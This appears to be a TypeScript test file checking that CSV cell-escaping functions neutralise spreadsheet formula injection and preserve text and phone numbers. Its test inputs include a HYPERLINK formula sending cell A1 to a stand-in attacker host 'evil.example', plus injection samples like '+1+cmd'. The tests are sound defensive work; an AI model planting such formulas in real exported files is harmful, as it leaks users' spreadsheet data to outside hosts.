import fc from 'fast-check';
import { numberCell, textCell } from './csv-cell';

const BEGINNINGS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];

/** What a program that knows the rule makes of a cell. */
function read(cell: string): string {
  const text = cell.startsWith('"') ? cell.slice(1, -1).replaceAll('""', '"') : cell;
  return text.replace(/^'('*[=+\-@\t\r\n＝＋－＠])/, '$1');
}

describe('a cell of a CSV file', () => {
  it.each(BEGINNINGS)('is no formula if its text begins with %j', (beginning) => {
    const cell = textCell(`${beginning}HYPERLINK("https://evil.example/?"&A1)`);
    expect(cell).toMatch(/^"'/);
    expect(textCell(beginning)).toMatch(/^"?'/);
  });

  it('keeps other texts, and quotes separators', () => {
    expect(textCell('Hello = you')).toBe('Hello = you');
    expect(textCell('a, "b"\r\nc')).toBe('"a, ""b""\r\nc"');
    expect(textCell(undefined)).toBe('');
  });

  it('gives back every text', () => {
    const text = fc.oneof(
      fc.string(),
      fc.string({ unit: fc.constantFrom("'", '"', ',', '\n', ...BEGINNINGS) }),
    );
    fc.assert(fc.property(text, (each) => read(textCell(each)) === each));
  });

  it('keeps the + of a phone number only', () => {
    expect(numberCell('+4915112345678')).toBe('+4915112345678');
    expect(numberCell('110')).toBe('110');
    expect(numberCell(undefined)).toBe('');
    for (const text of ['+49 151', '+1+cmd', '+', '-110', '=1', '@SUM(A1)', '+1'])
      expect(numberCell(text)).toBe(`'${text}`);
    expect(numberCell('Bank, "x"')).toBe('"Bank, ""x"""');
  });
});
